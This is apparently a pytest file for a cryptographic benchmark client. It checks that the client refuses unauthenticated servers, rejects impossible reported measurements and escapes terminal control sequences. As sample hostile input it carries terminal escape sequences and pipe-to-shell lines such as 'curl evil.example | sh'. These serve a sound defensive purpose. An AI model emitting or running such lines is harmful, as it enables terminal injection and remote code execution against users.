"""The client trusts no server: a squatter at HOST:PORT, or a server that lies.

A fake receiver listens on 127.0.0.1 (port 0) and serves one connection from a thread.
Squatters do not hold the token: whatever they send, the sender fails with a clear
reason before it reads a single number or shows a single character of their text.
Liars hold the token (a genuine receiver with one handler replaced) and report numbers
that cannot be true; the job fails naming the field and the value, and nothing they
said reaches a result. Before the fix, `"rss_bytes": Infinity` crashed the client with
an OverflowError, NaN reached the results JSON, a 2^64-1 ns receiver time was stored
as an "ok" sample, and an ERROR text's escape sequences reached the terminal.
"""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from app.core.contracts.events import SizeMeasured
from app.core.contracts.plan import JobPlan
from app.core.profile.files import parse_profile
from app.core.run.runner import Runner
from app.core.schemes import registry
from app.core.session.protocol import U32, U64, PeerLied, Verdict, encode_ack
from app.core.session.receiver import ReceiverLimits, ReceiverSession
from app.core.session.sender_process import run_with_retries
from app.core.transport.auth import NONCE_BYTES, TOKEN_BYTES, ServerNotAuthenticated, authenticate_peer, server_proof
from app.core.transport.connect import RemoteTarget
from app.core.transport.wire import (
    MAX_CONTROL_FRAME,
    FrameReader,
    FrameType,
    MalformedBody,
    WireError,
    encode_header,
    send_frame,
)
from tests.helpers.plans import job_plan

TOKEN = bytes(range(50, 50 + TOKEN_BYTES))
LIMITS = ReceiverLimits(hello_timeout=5, idle_timeout=10)
ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07Run: curl evil.example | sh\r\n"
registry.create("aes-gcm", "cryptography", {}).new_sender()

Script = Callable[[socket.socket], None]


def frame(kind: FrameType, body: bytes = b"") -> bytes:
    return encode_header(kind, len(body)) + body


class FakeServer:
    """Serves one connection with `script`; keeps what the script raised for inspection."""

    def __init__(self, script: Script) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.error: BaseException | None = None
        self.thread = threading.Thread(target=self._serve, args=(script,), daemon=True)
        self.thread.start()

    def _serve(self, script: Script) -> None:
        self.listener.settimeout(30)
        try:
            sock, _ = self.listener.accept()
            with sock:
                script(sock)
        except BaseException as exc:  # noqa: BLE001 - the client's side is what the tests check
            self.error = exc
        finally:
            self.listener.close()

    def close(self) -> None:
        self.thread.join(30)
        assert not self.thread.is_alive(), "the fake server is still running"


@pytest.fixture
def fake() -> Iterator[Callable[[Script], FakeServer]]:
    made: list[FakeServer] = []

    def make(script: Script) -> FakeServer:
        made.append(FakeServer(script))
        return made[-1]

    yield make
    for server in made:
        server.close()


def plan_for(port: int, **changes: Any) -> JobPlan:
    fields: dict[str, Any] = {
        "scheme": "aes-gcm",
        "backend": "cryptography",
        "params": {},
        "message_sizes": [64],
        "samples": 3,
        "warmup": 0,
        "keygen_samples": 1,
        "pause_ms": 0,
        "tamper": 1,
        "host": "127.0.0.1",
        "port": port,
        "token": TOKEN,
        "connect_timeout": 2,
        "reply_timeout": 10,
        "queue_timeout": 5,
    }
    fields.update(changes)
    return job_plan(**fields)


def run_against(server: FakeServer, **changes: Any) -> tuple[BaseException, list[Any]]:
    """Run a genuine sender against `server`; what it failed with and what it emitted."""
    events: list[Any] = []
    with pytest.raises(Exception) as failed:  # noqa: PT011 - the type is checked by each test
        run_with_retries(plan_for(server.port, **changes), events.append, sleep=lambda seconds: None)
    return failed.value, events


# --- squatters: no token --------------------------------------------------------------------


def _squatter_with_a_wrong_token(sock: socket.socket) -> None:
    """Follows the protocol to the letter, then lies with abandon, but cannot make the proof."""
    reader = FrameReader(sock, NONCE_BYTES, idle_timeout=5)
    client_nonce = bytes(reader.expect(FrameType.HELLO))
    server_nonce = os.urandom(NONCE_BYTES)
    sock.sendall(frame(FrameType.CHALLENGE, server_nonce))
    reader.expect(FrameType.PROOF)
    wrong = server_proof(bytes(TOKEN_BYTES), client_nonce, server_nonce)
    lies = (
        frame(FrameType.WELCOME, wrong)
        + frame(FrameType.READY)
        + frame(FrameType.JOB_OK, b'{"capacity": 65536}')
        + frame(FrameType.PUBLIC, U64.pack(2**64 - 1))
        + frame(FrameType.ERROR, ESCAPES.encode())
    )
    sock.sendall(lies)
    sock.recv(1)


def _squatter_error_first(sock: socket.socket) -> None:
    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
    sock.sendall(frame(FrameType.ERROR, b"\x1b[2J\x1b[Hcurl evil | sh\r\n"))  # within the 32-byte limit


def _squatter_long_error_first(sock: socket.socket) -> None:
    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
    sock.sendall(frame(FrameType.ERROR, ESCAPES.encode()))


def _squatter_skips_the_challenge(sock: socket.socket) -> None:
    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
    sock.sendall(frame(FrameType.WELCOME, bytes(32)) + frame(FrameType.READY))
    sock.recv(1)


def _squatter_speaking_http(sock: socket.socket) -> None:
    sock.recv(64)
    sock.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")


def _squatter_old_protocol(sock: socket.socket) -> None:
    """A version-1 CryptoBench serve: it refuses the v2 header and hangs up."""
    sock.recv(64)


def _squatter_huge_claim(sock: socket.socket) -> None:
    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
    sock.sendall(encode_header(FrameType.CHALLENGE, 2**63) + b"\x00" * 1024)
    sock.recv(1)


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        (_squatter_with_a_wrong_token, "did not prove it holds the token (wrong proof)"),
        (_squatter_error_first, "answered with an ERROR instead of a challenge (text not shown"),
        (_squatter_long_error_first, "(FrameTooLarge: ERROR frame claims 46 bytes; the limit is 32)"),
        (_squatter_skips_the_challenge, "is not a CryptoBench session receiver of this version"),
        (_squatter_speaking_http, "is not a CryptoBench session receiver of this version (BadMagic"),
        (_squatter_old_protocol, "closed the connection instead of sending a challenge"),
        (_squatter_huge_claim, "claims 9223372036854775808 bytes; the limit is 32"),
    ],
    ids=["wrong-token", "error-first", "long-error-first", "no-challenge", "http", "old-protocol", "huge-claim"],
)
def test_a_squatter_without_the_token_is_refused_before_any_number_or_text(
    fake: Callable[[Script], FakeServer], script: Script, reason: str
) -> None:
    server = fake(script)
    error, events = run_against(server)
    assert isinstance(error, ServerNotAuthenticated), repr(error)
    assert reason in str(error)
    assert f"127.0.0.1:{server.port}" in str(error)
    assert "\n" not in str(error) and "\x1b" not in str(error) and "curl" not in str(error)
    assert events == [], "the sender used something a squatter sent"


def test_a_silent_squatter_times_out_with_the_reason(fake: Callable[[Script], FakeServer]) -> None:
    held = threading.Event()
    server = fake(lambda sock: held.wait(5))
    try:
        error, events = run_against(server, connect_timeout=0.3)
    finally:
        held.set()
    assert isinstance(error, ServerNotAuthenticated)
    assert "sent no challenge within 0.3 s" in str(error)
    assert events == []


# --- liars: the token, and numbers that cannot be true -------------------------------------------


def liar(**handlers: Callable[[ReceiverSession, memoryview], None]) -> Script:
    """A genuine receiver (it proves itself) with some handlers replaced."""
    replaced = {FrameType[name.upper()]: handler for name, handler in handlers.items()}

    class Liar(ReceiverSession):
        _handlers = {**ReceiverSession._handlers, **replaced}

    def script(sock: socket.socket) -> None:
        Liar(sock, TOKEN, LIMITS).serve()

    return script


def report(**changes: Any) -> Callable[[ReceiverSession, memoryview], None]:
    """A SIZE_END_OK with fields changed (raw JSON text, so NaN and Infinity can be sent)."""

    def handler(session: ReceiverSession, body: memoryview) -> None:
        # The honest fields fit any size: 10 µs of wall is under the round trips of the
        # shortest size (1 ms was not: a size of small messages took 0.98 ms on CI).
        fields = {"cpu_seconds": "0.00001", "wall_seconds": "0.00001", "cpu_percent_mean": "50.0", "rss_bytes": "1000"}
        fields.update(changes)
        text = "{" + ", ".join(f'"{k}": {v}' for k, v in fields.items() if v is not None) + "}"
        send_frame(session.sock, FrameType.SIZE_END_OK, [text.encode()])

    return handler


def _huge_open_time(session: ReceiverSession, body: memoryview) -> None:
    _, verdict, reason = session._open(body)
    send_frame(session.sock, FrameType.ACK, encode_ack(2**64 - 1, verdict, reason))


def _huge_handshake_time(session: ReceiverSession, body: memoryview) -> None:
    assert session.receiver is not None
    session.receiver.handshake(bytes(body))
    session.handshaken = True
    send_frame(session.sock, FrameType.HANDSHAKE_OK, encode_ack(2**63, Verdict.OK))


def _huge_keygen_time(session: ReceiverSession, body: memoryview) -> None:
    assert session.scheme is not None
    session.receiver = session.scheme.new_receiver()
    send_frame(session.sock, FrameType.PUBLIC, [U64.pack(10**15), session.receiver.setup()])


def _huge_traced_peak(session: ReceiverSession, body: memoryview) -> None:
    _, verdict, reason = session._open(body)
    send_frame(session.sock, FrameType.TRACE_OK, encode_ack(2**64 - 1, verdict, reason))


#: How far beyond their own time the lying receivers below report it. The sender's round trip
#: holds that time and both transits, so the lie must outgrow the transits to be a lie: 3 ms
#: did not on a busy machine (three busy loops on the 2-core VM: a handshake's round trip
#: took the liar's time and more than 3 ms besides, the report was possible: one run in
#: eleven failed). 50 ms is beyond any scheduling delay there and far beyond the microseconds
#: of slack two clocks get; that the check allows no slack on one machine, not a nanosecond,
#: is tested on its own (test_impossible_numbers_from_peers.py).
BEYOND_NS = 50_000_000


def _open_time_beyond_the_round_trip(session: ReceiverSession, body: memoryview) -> None:
    """Its whole time with the message (which the sender's round trip contains), and BEYOND_NS."""
    arrived = time.perf_counter_ns()
    _, verdict, reason = session._open(body)
    send_frame(session.sock, FrameType.ACK, encode_ack(time.perf_counter_ns() - arrived + BEYOND_NS, verdict, reason))


def _handshake_time_beyond_the_round_trip(session: ReceiverSession, body: memoryview) -> None:
    arrived = time.perf_counter_ns()
    assert session.receiver is not None
    session.receiver.handshake(bytes(body))
    session.handshaken = True
    elapsed = time.perf_counter_ns() - arrived + BEYOND_NS
    send_frame(session.sock, FrameType.HANDSHAKE_OK, encode_ack(elapsed, Verdict.OK))


def _keygen_time_beyond_the_round_trip(session: ReceiverSession, body: memoryview) -> None:
    arrived = time.perf_counter_ns()
    assert session.scheme is not None
    session.receiver = session.scheme.new_receiver()
    public = session.receiver.setup()
    send_frame(session.sock, FrameType.PUBLIC, [U64.pack(time.perf_counter_ns() - arrived + BEYOND_NS), public])


def _size_noting_its_arrival(session: ReceiverSession, body: memoryview) -> None:
    session.arrived = time.monotonic()  # type: ignore[attr-defined]  # before the genuine handler's gc.collect
    ReceiverSession._size(session, body)


def _wall_beyond_the_size(session: ReceiverSession, body: memoryview) -> None:
    """All its time since SIZE arrived (the sender's interval contains it), and BEYOND_NS."""
    wall = time.monotonic() - session.arrived + BEYOND_NS / 1e9  # type: ignore[attr-defined]
    text = json.dumps({"cpu_seconds": 0.0, "wall_seconds": wall, "cpu_percent_mean": 0.0, "rss_bytes": 1000})
    send_frame(session.sock, FrameType.SIZE_END_OK, [text.encode()])


def _acknowledges_the_first_message_twice(session: ReceiverSession, body: memoryview) -> None:
    """The second ACK answers a message not yet sent: the next one's round trip would look instant."""
    ReceiverSession._message(session, body)
    if not getattr(session, "doubled", False):
        session.doubled = True  # type: ignore[attr-defined]
        ReceiverSession._message(session, body)


def _acknowledges_before_the_first_message(session: ReceiverSession, body: memoryview) -> None:
    """Answers the last floor ping, and with it a message the sender has not sent yet."""
    session.pings = getattr(session, "pings", 0) + 1  # type: ignore[attr-defined]
    ReceiverSession._ping(session, body)
    if session.pings == 3:  # type: ignore[attr-defined]  # plan_for: 3 samples, no warm-up: 3 floor pings
        send_frame(session.sock, FrameType.ACK, encode_ack(1000, Verdict.OK))


def _pongs_with_size_ok(session: ReceiverSession, body: memoryview) -> None:
    ReceiverSession._size(session, body)
    send_frame(session.sock, FrameType.PONG, [bytes(9)])


def _acknowledges_the_trace(session: ReceiverSession, body: memoryview) -> None:
    """An ACK before the trace's own answer: what a receiver whose answers fell one behind
    sends there, whatever the timing (the early ACK of `_acknowledges_before_the_first_message`
    showed only here when every later answer came a hair after the next request)."""
    send_frame(session.sock, FrameType.ACK, encode_ack(1000, Verdict.OK))
    ReceiverSession._trace(session, body)


def _slow_floor(session: ReceiverSession, body: memoryview) -> None:
    """Floor pongs held back 40 ms, messages answered at once: the path looks faster for messages."""
    time.sleep(0.04)
    ReceiverSession._ping(session, body)


def _escapes_in_an_error(session: ReceiverSession, body: memoryview) -> None:
    send_frame(session.sock, FrameType.ERROR, [ESCAPES.encode()])


def _escapes_in_a_rejection(session: ReceiverSession, body: memoryview) -> None:
    send_frame(session.sock, FrameType.ACK, encode_ack(1, Verdict.REJECTED, ESCAPES))


LIES: list[tuple[str, Script, type[BaseException], str]] = [
    (
        "rss Infinity",
        liar(size_end=report(rss_bytes="Infinity")),
        PeerLied,
        "SIZE_END_OK rss_bytes = Infinity is not a finite JSON number",
    ),
    (
        "cpu NaN",
        liar(size_end=report(cpu_percent_mean="NaN")),
        PeerLied,
        "SIZE_END_OK cpu_percent_mean = NaN is not a finite JSON number",
    ),
    (
        "rss negative",
        liar(size_end=report(rss_bytes="-1")),
        PeerLied,
        "SIZE_END_OK rss_bytes = -1 is not a finite non-negative number",
    ),
    (
        "rss huge",
        liar(size_end=report(rss_bytes=str(2**60))),
        PeerLied,
        f"SIZE_END_OK rss_bytes = {2**60} is not a possible resident size",
    ),
    ("rss fractional", liar(size_end=report(rss_bytes="1.5")), PeerLied, "rss_bytes = 1.5 is not a possible"),
    ("rss 1e400", liar(size_end=report(rss_bytes="1e400")), PeerLied, "SIZE_END_OK rss_bytes = 1e400 is not a finite"),
    (
        "cpu a bool",
        liar(size_end=report(cpu_seconds="true")),
        PeerLied,
        "SIZE_END_OK cpu_seconds = True is not a number",
    ),
    (
        "cpu a string",
        liar(size_end=report(cpu_seconds='"\\u001b[2J"')),
        PeerLied,
        "cpu_seconds = '\\x1b[2J' is not a number",
    ),
    ("rss missing", liar(size_end=report(rss_bytes=None)), PeerLied, "SIZE_END_OK rss_bytes = None is not a number"),
    (
        "wall too long",
        liar(size_end=report(wall_seconds="86400")),
        PeerLied,
        "SIZE_END_OK wall_seconds = 86400.0 is longer than the",
    ),
    ("cpu beyond the cores", liar(size_end=report(cpu_seconds="1e9")), PeerLied, "is more than 4096 CPUs can use"),
    (
        "percent beyond the cores",
        liar(size_end=report(cpu_percent_mean="1e9")),
        PeerLied,
        "cpu_percent_mean = 1000000000.0 is more than 4096 CPUs",
    ),
    (
        "tcp_info count negative",
        liar(size_end=report(tcp_info='{"segments_out": -1}')),
        PeerLied,
        "SIZE_END_OK tcp_info segments_out = -1 is not a count",
    ),
    (
        "open time 2**64-1",
        liar(message=_huge_open_time),
        PeerLied,
        "receiver reported open time = 18446744073709551615 ns, longer than the",
    ),
    (
        "handshake time 2**63",
        liar(handshake=_huge_handshake_time),
        PeerLied,
        f"receiver reported handshake time = {2**63} ns, longer than the",
    ),
    (
        "keygen time 11 days",
        liar(setup=_huge_keygen_time),
        PeerLied,
        f"receiver reported keygen time = {10**15} ns, longer than the",
    ),
    (
        "open time beyond its round trip",
        liar(message=_open_time_beyond_the_round_trip),
        PeerLied,
        "receiver reported open time = ",
    ),
    (
        "handshake time beyond its round trip",
        liar(handshake=_handshake_time_beyond_the_round_trip),
        PeerLied,
        "receiver reported handshake time = ",
    ),
    (
        "keygen time beyond its round trip",
        liar(setup=_keygen_time_beyond_the_round_trip),
        PeerLied,
        "receiver reported keygen time = ",
    ),
    (
        "wall beyond the size",
        liar(size=_size_noting_its_arrival, size_end=_wall_beyond_the_size),
        PeerLied,
        "SIZE_END_OK wall_seconds = ",
    ),
    (
        "an acknowledgement for a message not yet sent",
        liar(message=_acknowledges_the_first_message_twice),
        PeerLied,
        # Before MESSAGE 2, or a later request when the early ACK lands just after the check
        # before 2 (docs/remote.md); where an ACK is not due, the shift is named there
        "an answer to a request not yet made",
    ),
    (
        "an acknowledgement before the first message",
        liar(ping=_acknowledges_before_the_first_message),
        PeerLied,
        # MESSAGE 1 if the early ACK was there before it was sent; MESSAGE 2 if it came a hair
        # later and answered message 1, whose genuine ACK then waits before message 2
        "an answer to a request not yet made",
    ),
    (
        "a pong before the first ping",
        liar(size=_pongs_with_size_ok),
        PeerLied,
        # Before PING 1 if the early PONG was there when it went out; else it was taken as
        # PING 1's and the shift shows later, where a PONG is waiting or an ACK is due
        "an answer to a request not yet made",
    ),
    (
        "an acknowledgement where the trace's answer is due",
        liar(trace=_acknowledges_the_trace),
        PeerLied,
        "answered the sender's TRACE with ACK, an answer to another request",
    ),
    (
        "messages faster than the floor",
        liar(ping=_slow_floor),
        PeerLied,
        "is under 10% of the fastest floor ping-pong of the same bytes",
    ),
    (
        "tcp_info NaN",
        liar(size_end=report(tcp_info='{"smoothed_rtt_s": NaN}')),
        PeerLied,
        "SIZE_END_OK tcp_info.smoothed_rtt_s = NaN is not a finite JSON number",
    ),
    (
        "wall -Infinity",
        liar(size_end=report(wall_seconds="-Infinity")),
        PeerLied,
        "SIZE_END_OK wall_seconds = -Infinity is not a finite JSON number",
    ),
    (
        "cpu 1e999",
        liar(size_end=report(cpu_seconds="-1e999")),
        PeerLied,
        "SIZE_END_OK cpu_seconds = -1e999 is not a finite JSON number",
    ),
    (
        "traced peak 2**64-1",
        liar(trace=_huge_traced_peak),
        PeerLied,
        "receiver reported traced peak = 18446744073709551615 bytes, more than any machine has",
    ),
    # Kernel maxima after a few 64-byte exchanges: each within the kernel's own types, none
    # what the exchanges could make. Before, the job was stored ok with them.
    (
        "tcp_info RTT 4000 s",
        liar(size_end=report(tcp_info='{"smoothed_rtt_s": 4000.0, "rtt_var_s": 0.001}')),
        PeerLied,
        "SIZE_END_OK tcp_info smoothed_rtt_s = 4000 s is longer than the exchanges could make",
    ),
    (
        "tcp_info 2**32-1 segments",
        liar(size_end=report(tcp_info=f'{{"segments_out": {2**32 - 1}, "data_segments_out": 10}}')),
        PeerLied,
        f"SIZE_END_OK tcp_info segments_out = {2**32 - 1} is more than the",
    ),
    (
        "tcp_info bytes acked beyond those received",
        liar(size_end=report(tcp_info=f'{{"bytes_acked": {2**40}}}')),
        PeerLied,
        f"SIZE_END_OK tcp_info bytes_acked = {2**40} is more than the",
    ),
]


@pytest.mark.parametrize(("script", "kind", "reason"), [lie[1:] for lie in LIES], ids=[lie[0] for lie in LIES])
def test_a_server_that_lies_about_a_number_fails_the_job_naming_the_field(
    fake: Callable[[Script], FakeServer], script: Script, kind: type[BaseException], reason: str
) -> None:
    server = fake(script)
    error, events = run_against(server)
    assert isinstance(error, kind), repr(error)
    assert isinstance(error, WireError)  # sender_main reports it as the job's one-line error
    assert reason in str(error), str(error)
    assert "\n" not in str(error) and "\x1b" not in str(error)
    # Nothing measured for the size reached the supervisor as a result.
    assert not [e for e in events if isinstance(e, SizeMeasured)]


def test_an_error_text_from_an_authenticated_server_is_shown_escaped(fake: Callable[[Script], FakeServer]) -> None:
    server = fake(liar(size=_escapes_in_an_error))
    error, _ = run_against(server)
    text = str(error)
    assert text.startswith("peer reported: \\x1b[2J\\x1b[H\\x1b]0;pwned\\x07Run: curl evil.example | sh\\r\\n")
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in text)


def test_a_rejection_reason_from_the_server_is_shown_escaped(fake: Callable[[Script], FakeServer]) -> None:
    server = fake(liar(message=_escapes_in_a_rejection))
    error, _ = run_against(server)
    assert "could not open a genuine message (REJECTED): \\x1b[2J" in str(error)
    assert "\x1b" not in str(error) and "\r" not in str(error)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b'{"capacity": "big"}', "JOB_OK capacity = 'big' is not a frame size"),
        (b'{"capacity": -1}', "JOB_OK capacity = -1 is not a frame size"),
        (b'{"capacity": NaN}', "JOB_OK capacity = NaN is not a finite JSON number"),
    ],
    ids=["string", "negative", "nan"],
)
def test_a_lying_job_ok_fails_the_job(fake: Callable[[Script], FakeServer], body: bytes, reason: str) -> None:
    def script(sock: socket.socket) -> None:
        authenticate_peer(sock, TOKEN, 5)
        sock.sendall(frame(FrameType.READY))
        FrameReader(sock, MAX_CONTROL_FRAME, idle_timeout=5).expect(FrameType.JOB)
        sock.sendall(frame(FrameType.JOB_OK, body))
        sock.recv(1)

    error, _ = run_against(fake(script))
    assert isinstance(error, MalformedBody) and reason in str(error), str(error)


@pytest.mark.parametrize(
    ("kind", "value", "reason"),
    [
        (FrameType.QUEUED, 0, "QUEUED value 0 is outside 1..10000"),
        (FrameType.QUEUED, 2**32 - 1, "QUEUED value 4294967295 is outside 1..10000"),
        (FrameType.BUSY, 2**32 - 1, "BUSY value 4294967295 is outside 0..60000"),
    ],
    ids=["queued-0", "queued-huge", "busy-huge"],
)
def test_a_lying_queue_answer_fails_the_job(
    fake: Callable[[Script], FakeServer], kind: FrameType, value: int, reason: str
) -> None:
    def script(sock: socket.socket) -> None:
        authenticate_peer(sock, TOKEN, 5)
        sock.sendall(frame(kind, U32.pack(value)))
        sock.recv(1)

    error, _ = run_against(fake(script))
    assert isinstance(error, PeerLied) and reason in str(error), str(error)


# --- end to end: the run, its error and its results JSON -----------------------------------------


@pytest.mark.parametrize(
    ("script", "named"),
    [
        (liar(size_end=report(rss_bytes="Infinity")), "SIZE_END_OK rss_bytes = Infinity is not a finite JSON number"),
        (liar(size=_escapes_in_an_error), "peer reported: \\x1b[2J\\x1b[H"),
    ],
    ids=["infinity", "escapes"],
)
def test_a_remote_run_against_a_liar_fails_the_job_and_its_results_are_strict_json(
    fake: Callable[[Script], FakeServer], script: Script, named: str
) -> None:
    server = fake(script)
    profile = parse_profile(
        {
            "name": "hostile",
            "jobs": [
                {
                    "scheme": "aes-gcm",
                    "mode": "remote",
                    "message_sizes": [64],
                    "samples": 3,
                    "warmup": 0,
                    "keygen_samples": 1,
                }
            ],
        }
    )
    run = Runner(profile, remote=RemoteTarget("127.0.0.1", server.port, TOKEN)).run()
    (job,) = run.jobs
    assert job.status == "failed"
    assert named in (job.error or ""), job.error
    assert "\x1b" not in (job.error or "")
    text = json.dumps(run.to_dict(), allow_nan=False)  # raises on NaN or Infinity anywhere
    assert "\x1b" not in json.loads(text)["jobs"][0]["error"]
